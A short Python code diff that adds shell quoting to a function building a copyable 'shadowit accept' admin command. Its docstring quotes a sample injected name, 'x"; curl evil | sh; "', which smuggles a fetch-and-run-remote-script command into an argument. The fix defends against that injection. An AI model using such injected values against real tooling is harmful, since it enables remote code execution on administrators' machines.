@@ -241,4 +241,7 @@ def accept_line(finding_id: str, until: str, reason: str = "why it is accepted")
     """The copyable ``shadowit accept`` line for one finding; app and person names in every
     command are shell-quoted (``shlex.quote``): they come from providers, and a name such as
     ``x"; curl evil | sh; "`` must stay one argument when an admin pastes the line."""
-    return f'shadowit accept --config {CONFIG} {finding_id} --until {until} --reason "{reason}"'
+    return (
+        f"shadowit accept --config {CONFIG} {quote(finding_id)} --until {until} "
+        f"--reason {quote(reason)}"
+    )
